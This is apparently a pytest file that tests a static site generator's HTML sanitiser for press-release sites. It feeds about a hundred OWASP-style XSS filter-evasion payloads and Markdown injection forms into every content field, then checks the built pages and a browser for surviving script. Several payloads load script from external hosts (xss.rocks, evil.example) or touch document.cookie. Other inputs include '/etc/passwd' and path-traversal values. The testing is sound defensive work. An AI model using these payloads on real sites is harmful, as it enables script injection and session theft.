"""Issue 7: nothing injected. XSS filter-evasion vectors in every place an editor writes.

The vectors follow the OWASP "XSS Filter Evasion Cheat Sheet" (script and event
handler variants, scheme obfuscation with entities, tabs and newlines, CSS
expressions, META refresh, frames, objects, SVG and MathML mutation XSS) plus the
Markdown-specific ways in (link and image targets, reference definitions,
autolinks, attribute lists, link titles). Each goes

* into a Markdown body (a press release per vector) and the boilerplate, and
* into every front-matter string field (title, subtitle, summary, location,
  tags, partners, funding, image_alt, website), every contact field and the
  site settings;

the sites are built, and every generated HTML and XML file is parsed and
searched for anything that could run script: a <script> other than the theme's
own (JSON-LD must not contain "<" at all), an on* attribute, a javascript:,
vbscript: or data: URL in a URL attribute, an iframe from a host not in
``iframe_hosts``, objects, embeds, frames, forms, base, meta refresh, style.
Removed HTML must be reported as a warning with path and line; ``--strict``
turns those warnings into errors. A browser test (``-m browser``) loads the
pages in Chromium with the CSP switched off, so the sanitiser alone is tested,
and fails on any alert().
"""

from __future__ import annotations

import datetime as dt
import html
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import lxml.etree
import lxml.html
import pytest
import yaml
from click.testing import Result
from PIL import Image, PngImagePlugin

from tests.conftest import CHROMIUM, CHROMIUM_ARGS, build_cli, copy_fixture_site

if TYPE_CHECKING:
    from playwright.sync_api import Browser

NOW = "2026-11-26T12:00"
ALLOWED_FRAME_HOST = "www.youtube-nocookie.com"

# fmt: off
# The cheat sheet's vectors, with its dummy targets ("x", "#") replaced by pages that
# exist, so that the link check passes and the sanitiser's output is what is tested.
VECTORS: list[str] = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=/medien/bild.png onmouseover=\"alert('xxs')\" alt=x>",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=/medien/bild.png alt=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115"
    "&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
    "&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
    "&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=/ onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
    "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053"
    "\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAv"
    "c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2"
    "Zz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<A HREF=\"&#x6A;avascript:alert(1)\">x</A>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=/ onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=/ onerror=alert(1)>\">",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    f"<iframe src=\"https://{ALLOWED_FRAME_HOST}.evil.example/\"></iframe>",
    f"<iframe src=\"https://evil.example\\@{ALLOWED_FRAME_HOST}/\"></iframe>",
    f"<iframe src=\"https://{ALLOWED_FRAME_HOST}/embed/x\" onload=\"alert(1)\"></iframe>",
    "<a href=\"/\" target=\"_blank\" style=\"position:fixed;top:0\">x</a>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Markdown's own ways in.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](/ \"title\\\" onmouseover=\\\"alert(1)\")",
    "# Überschrift {: onclick=\"alert(1)\" }",
    "Absatz\n{: onmouseover=\"alert(1)\" style=\"color:red\" }",
    "![x](/medien/bild.png){: onerror=\"alert(1)\" }",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=/ onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<!--<script>",
]
# fmt: on

# The link check reads these targets as relative paths that lead nowhere (entities and
# tabs are not decoded, Markdown turns backticks into <code>): the build fails with an
# error at the file, so nothing is published at all. Tested on their own.
REFUSED_BY_LINK_CHECK = {
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
}
BODY_VECTORS = [v for v in VECTORS if v not in REFUSED_BY_LINK_CHECK]

URL_ATTRIBUTES = (
    "href", "src", "action", "formaction", "background", "dynsrc", "lowsrc", "data",
    "poster", "xlink:href", "srcset", "codebase", "cite", "longdesc", "ping", "srcdoc",
)  # fmt: skip
# Elements that have no business in a page body: the sanitiser's allow-list has none
# of them, and the theme uses only its own search forms.
NEVER = {"object", "embed", "frame", "frameset", "applet", "base", "style", "svg", "math",
         "link", "bgsound", "xss", "meta", "iframe", "form", "input", "button", "textarea",
         "select", "noscript", "template"}  # fmt: skip
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def _scheme(value: str) -> str:
    """The scheme a browser would see: entities decoded, whitespace and controls dropped."""
    cleaned = _INVISIBLE.sub("", html.unescape(value)).lower()
    return cleaned.split(":", 1)[0] if ":" in cleaned else ""


def _theme_search_form(element: lxml.html.HtmlElement) -> bool:
    """The header's and the search page's own form (and its fields): GET to /…/suche/.

    The search page's other controls carry data-search-* hooks, the release page's
    "Text kopieren" button a data-copy-source hook, which the sanitiser never lets
    through (no data-* attribute is on its allow-list).
    """
    if any(name.startswith(("data-search", "data-copy-source")) for name in element.attrib):
        return True
    form = element if element.tag == "form" else next(element.iterancestors("form"), None)
    if form is None:
        return element.tag == "input" and element.get("form") == "suchformular"
    action = form.get("action") or ""
    # GET is a form's default: the minified page leaves the attribute out.
    method = form.get("method") or "get"
    return action.startswith("/") and action.endswith("suche/") and method == "get"


def dangers(document: str, *, where: str) -> list[str]:
    """Everything in an HTML document or fragment that could run script or restyle it."""
    found: list[str] = []
    if not document.strip():
        return found
    root = lxml.html.document_fromstring(document)
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        in_head = any(a.tag == "head" for a in element.iterancestors())
        if tag == "script":
            kind = (element.get("type") or "").lower()
            src = element.get("src") or ""
            if kind == "application/ld+json":
                if "<" in (element.text or ""):
                    found.append(f"{where}: '<' inside JSON-LD: {element.text!r}")
            elif not (src.startswith("/") and "/assets/js/" in src and not element.text):
                found.append(f"{where}: <script {dict(element.attrib)}>{element.text!r}")
            continue
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            found.append(f"{where}: meta refresh {dict(element.attrib)}")
        if tag in NEVER and not in_head and not _theme_search_form(element):
            allowed_frame = tag == "iframe" and re.match(
                rf"https://{re.escape(ALLOWED_FRAME_HOST)}/", element.get("src") or ""
            )
            if not allowed_frame:
                found.append(f"{where}: <{tag} {dict(element.attrib)}>")
        for name, value in element.attrib.items():
            lowered = name.lower()
            if lowered.startswith("on") or lowered in ("style", "srcdoc", "formaction"):
                found.append(f"{where}: <{tag} {name}={value!r}>")
            if lowered in URL_ATTRIBUTES and _scheme(value) in ("javascript", "vbscript", "data"):
                found.append(f"{where}: <{tag} {name}={value!r}>")
    return found


def check_tree(out: Path) -> list[str]:
    """Parse every HTML and XML file of a build; the feed's HTML content too."""
    problems: list[str] = []
    html_files = sorted(out.rglob("*.html"))
    assert html_files
    for path in html_files:
        rel = path.relative_to(out).as_posix()
        problems += dangers(path.read_text(encoding="utf-8"), where=rel)
    for path in sorted(out.rglob("*.xml")):
        rel = path.relative_to(out).as_posix()
        tree = lxml.etree.parse(str(path))  # well-formed, or this raises
        for content in tree.iterfind(".//{http://www.w3.org/2005/Atom}content"):
            assert content.get("type") == "html"
            problems += dangers(content.text or "", where=f"{rel} <content>")
        for element in tree.iter():
            for name, value in element.attrib.items():
                if _scheme(value) in ("javascript", "vbscript", "data"):
                    problems.append(f"{rel}: <{element.tag} {name}={value!r}>")
    return problems


# --- the sites -------------------------------------------------------------------------


EMBEDDED_CREDIT_XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
    'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:Credit="Grafik: Test"/>'
    "</rdf:RDF></x:xmpmeta>"
)


def _yaml(data: object) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)


def _site(root: Path, *, body_vectors: list[str], field_vectors: list[str]) -> None:
    content = root / "content"
    (content / "medien").mkdir(parents=True, exist_ok=True)
    # A real PNG whose credit is embedded (XMP), so that every use of it is credited.
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", EMBEDDED_CREDIT_XMP)
    Image.new("RGB", (32, 24), "#a3092b").save(content / "medien/bild.png", pnginfo=info)
    settings = yaml.safe_load((content / "site.yaml").read_text(encoding="utf-8"))
    settings["iframe_hosts"] = [ALLOWED_FRAME_HOST]
    if field_vectors:
        settings["description"] = field_vectors[0]
        settings["organisation"] = {"name": field_vectors[-1], "url": "https://example.org/"}
        settings["defaults"]["location"] = field_vectors[1 % len(field_vectors)]
    (content / "site.yaml").write_text(_yaml(settings), encoding="utf-8")
    contacts = {"presse": {"name": "Pressestelle"}}
    boilerplates = {"standard": "Die Stadt. " + " ".join(body_vectors[:3])}
    for i, vector in enumerate(body_vectors):
        (content / f"presse/2024-06-{1 + i % 28:02d}-body-{i}.md").write_text(
            f"---\ntitle: Vektor {i}\ndate: 2024-06-{1 + i % 28:02d}\n---\n"
            f"Vorher.\n\n{vector}\n\nNachher.\n",
            encoding="utf-8",
        )
    for i, vector in enumerate(field_vectors):
        contacts[f"k{i}"] = {
            "name": vector,
            "organisation": vector,
            "role": vector,
            "email": vector,
            "phone": vector,
            "address": [vector, vector],
        }
        project = {
            "title": vector,
            "summary": vector,
            "tags": [f"Thema {i} {vector}"],
            "partners": [vector, f"Partner {i}"],
            "funding": vector,
            "contact": f"k{i}",
            "website": f"https://example.org/{i}?q={vector}",
            "image": "medien/bild.png",
            "image_alt": vector,
            "image_credit": vector,
        }
        (content / f"projekte/feld-{i}.md").write_text(
            f"---\n{_yaml(project)}---\nText.\n", encoding="utf-8"
        )
        release = {
            "title": vector,
            "subtitle": vector,
            "date": dt.date(2023, 5, 1 + i % 28),
            "location": vector,
            "summary": vector,
            "tags": [f"Thema {i} {vector}"],
            "projects": [f"feld-{i}"],
            "contacts": [f"k{i}"],
        }
        (content / f"presse/2023-05-{1 + i % 28:02d}-feld-{i}.md").write_text(
            f"---\n{_yaml(release)}---\nText.\n", encoding="utf-8"
        )
        page = {"title": vector, "summary": vector, "menu": i < 3}
        (content / f"seiten/feld-{i}.md").write_text(
            f"---\n{_yaml(page)}---\nText.\n", encoding="utf-8"
        )
    (content / "daten/kontakte.yaml").write_text(_yaml(contacts), encoding="utf-8")
    (content / "daten/presseabbinder.yaml").write_text(_yaml(boilerplates), encoding="utf-8")


def _build(root: Path, *extra: str) -> Result:
    return build_cli(root, root / "out", "--now", NOW, "--no-cache", *extra)


@pytest.fixture(scope="module")
def body_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Result]]:
    root = copy_fixture_site("minimal", tmp_path_factory.mktemp("inject") / "bodies")
    _site(root, body_vectors=BODY_VECTORS, field_vectors=[])
    yield root, _build(root)


@pytest.fixture(scope="module")
def field_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Result]]:
    root = copy_fixture_site("minimal", tmp_path_factory.mktemp("inject") / "fields")
    # Front matter has no link check, so every vector goes in as is.
    _site(root, body_vectors=[], field_vectors=VECTORS)
    yield root, _build(root)


def test_vectors_in_bodies_are_sanitised(body_site: tuple[Path, Result]) -> None:
    root, result = body_site
    assert result.exit_code == 0, result.stderr
    assert len(list((root / "out/presse").glob("*/index.html"))) > len(BODY_VECTORS)
    problems = check_tree(root / "out")
    assert not problems, "\n".join(problems[:40])


def test_vectors_in_front_matter_and_data_are_escaped(field_site: tuple[Path, Result]) -> None:
    root, result = field_site
    assert result.exit_code == 0, result.stderr
    problems = check_tree(root / "out")
    assert not problems, "\n".join(problems[:40])
    # Escaped, not dropped: the text is there for the reader, as text.
    page = (root / "out/projekte/feld-0/index.html").read_text(encoding="utf-8")
    (heading,) = lxml.html.document_fromstring(page).iter("h1")
    assert heading.text == VECTORS[0] and len(heading) == 0
    # Minified, ">" needs no entity in text; "<" always keeps one.
    assert ">" + html.escape(VECTORS[0], quote=False).replace("&gt;", ">") + "</h1>" in page


# A complete start tag of an element the allow-list refuses, outside code: its removal
# is news for the editor. (Python-Markdown reads "<svg/onload=…>" without a space, or
# a tag that is never closed, as text: it stays visible, escaped, and nothing is
# removed or reported.)
_REMOVED_ELEMENT = re.compile(
    r"(?<![/`])<(script|iframe|style|object|embed|svg |math|form)\b[^<>]*>", re.I
)


def _expect_warning(vector: str) -> bool:
    # Code shows the tag as text; a comment (or CDATA, a comment in HTML) is an
    # editor's note, dropped silently.
    return bool(_REMOVED_ELEMENT.search(vector)) and not vector.startswith(("    ", "`", "<!"))


def test_removed_html_is_reported_with_path_and_line(body_site: tuple[Path, Result]) -> None:
    _, result = body_site
    warnings = [line for line in result.stderr.splitlines() if ": Warnung: " in line]
    expected = [(i, v) for i, v in enumerate(BODY_VECTORS) if _expect_warning(v)]
    assert len(expected) > 25
    for i, vector in expected:
        path = f"content/presse/2024-06-{1 + i % 28:02d}-body-{i}.md"
        # The vector starts on line 7: four front matter lines, "Vorher.", a blank line.
        mine = [w for w in warnings if w.startswith(f"{path}:")]
        assert mine, f"no warning for vector {i}: {vector!r}"
        if "`" in vector:
            # Markdown turns `…` inside the tag into a code span first; the line of the
            # rewritten piece is not found in the source, and the body's first line is
            # reported instead (a known imprecision of markup._Locator).
            continue
        match = _REMOVED_ELEMENT.search(vector)
        assert match is not None
        line = 7 + vector[: match.start()].count("\n")
        assert any(w.startswith(f"{path}:{line}: Warnung: ") for w in mine), mine


@pytest.mark.parametrize("vector", sorted(REFUSED_BY_LINK_CHECK))
def test_vectors_the_link_check_refuses_publish_nothing(vector: str, tmp_path: Path) -> None:
    root = copy_fixture_site("minimal", tmp_path / "site")
    _site(root, body_vectors=[vector], field_vectors=[])
    result = _build(root)
    assert result.exit_code == 1
    assert "content/presse/2024-06-01-body-0.md:" in result.stderr
    assert "content/daten/presseabbinder.yaml:" in result.stderr  # the same in the boilerplate
    assert not (root / "out").exists()


def test_strict_turns_removals_into_errors(tmp_path: Path) -> None:
    root = copy_fixture_site("minimal", tmp_path / "site")
    _site(root, body_vectors=["<script>alert(1)</script>"], field_vectors=[])
    (root / "out").mkdir()
    result = _build(root, "--strict")
    assert result.exit_code == 1
    assert "content/presse/2024-06-01-body-0.md:7: " in result.stderr
    assert "--strict" in result.stderr
    assert not any((root / "out").iterdir()), "nothing written"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("website", "javascript:alert(1)"),
        ("website", "data:text/html,<script>alert(1)</script>"),
        ("website", "//evil.example/"),
        ("website", "vbscript:msgbox(1)"),
        ("image", "javascript:alert(1)"),
        ("image", "https://evil.example/x.png"),
        ("image", "/etc/passwd"),
        ("image", "medien/../../x.png"),
    ],
)
def test_urls_in_front_matter_must_be_http_or_site_relative(
    field: str, value: str, tmp_path: Path
) -> None:
    root = copy_fixture_site("minimal", tmp_path / "site")
    meta = {"title": "T", "summary": "S", field: value}
    if field == "image":
        meta["image_alt"] = "Bild"
    (root / "content/projekte/url.md").write_text(f"---\n{_yaml(meta)}---\n", encoding="utf-8")
    result = _build(root)
    assert result.exit_code == 1
    assert f"content/projekte/url.md:4: „{field}“" in result.stderr


def test_json_ld_cannot_swallow_the_page(tmp_path: Path) -> None:
    # "<!--<script>" in a title once put the JSON-LD block into a parser state in which
    # its end tag is not seen: the rest of the page became part of the script element.
    root = copy_fixture_site("minimal", tmp_path / "site")
    (root / "content/presse/2024-06-01-kommentar.md").write_text(
        '---\ntitle: "Vorsicht <!--<script> und </script>"\ndate: 2024-06-01\n---\nText.\n',
        encoding="utf-8",
    )
    assert _build(root).exit_code == 0
    page = (root / "out/presse/kommentar/index.html").read_text(encoding="utf-8")
    # The page as published: minified, the attribute without its quotes.
    block = re.split(r'<script type="?application/ld\+json"?>', page)[1].split("</script>", 1)[0]
    assert "<" not in block
    assert "<script> und </script>" in json.loads(block)["headline"]


@pytest.mark.browser
def test_no_vector_runs_in_a_browser_without_csp(
    body_site: tuple[Path, Result], field_site: tuple[Path, Result]
) -> None:
    # The sanitiser alone, without the CSP's second line of defence: every page that
    # carries a vector (bodies; release pages, which show every press and contact
    # field) is loaded into Chromium with bypass_csp, its elements hovered, focused,
    # clicked and toggled; any alert(), confirm(), prompt() or print() fails the test.

    if not CHROMIUM.is_file():
        pytest.fail(f"{CHROMIUM} is missing: install Debian's chromium")
    from playwright.sync_api import sync_playwright

    pages = sorted((body_site[0] / "out/presse").glob("body-*/index.html"))
    pages += sorted((field_site[0] / "out/presse").glob("feld-*/index.html"))
    pages += sorted((field_site[0] / "out/projekte").glob("feld-*/index.html"))
    assert len(pages) > 2 * len(VECTORS)
    fired: list[str] = []
    with sync_playwright() as playwright:
        browser: Browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS
        )
        try:
            context = browser.new_context(bypass_csp=True)
            context.expose_function("__fired", lambda name, path: fired.append(f"{path}: {name}"))
            context.add_init_script(
                "for (const n of ['alert', 'confirm', 'prompt', 'print'])"
                " window[n] = () => window.__fired(n, location.href);"
            )
            # No network: every subresource fails at once, which also fires any
            # onerror handler that survived.
            context.route("**/*", lambda route: route.abort())
            page = context.new_page()
            page.set_default_timeout(10_000)
            # The control: an unsanitised vector is heard.
            page.set_content("<img src=/x onerror=alert(1)>", wait_until="load")
            page.wait_for_timeout(200)
            assert fired, "the alert() trap does not work"
            fired.clear()
            for path in pages:
                page.set_content(path.read_text(encoding="utf-8"), wait_until="load")
                page.evaluate(
                    """() => { for (const e of document.querySelectorAll('body *'))
                      for (const t of ['mouseover', 'focus', 'click', 'toggle', 'load'])
                        e.dispatchEvent(new Event(t)); }"""
                )
            page.wait_for_timeout(200)  # handlers queued by the last page
            context.close()
        finally:
            browser.close()
    assert not fired, fired


@pytest.mark.parametrize(
    "image",
    ["![Logo](https://example.org/logo.png)", '<img src="//cdn.example.org/x.png" alt="x">'],
)
def test_images_from_other_servers_are_reported(image: str, tmp_path: Path) -> None:
    # The CSP (img-src 'self') would hide them silently; the editor hears it at the line.
    root = copy_fixture_site("minimal", tmp_path / "site")
    _site(root, body_vectors=[image], field_vectors=[])
    result = _build(root)
    assert result.exit_code == 0, result.stderr
    assert "content/presse/2024-06-01-body-0.md:7: Warnung: Bild „" in result.stderr
    assert "liegt auf einem anderen Server" in result.stderr
    assert _build(root, "--strict").exit_code == 1
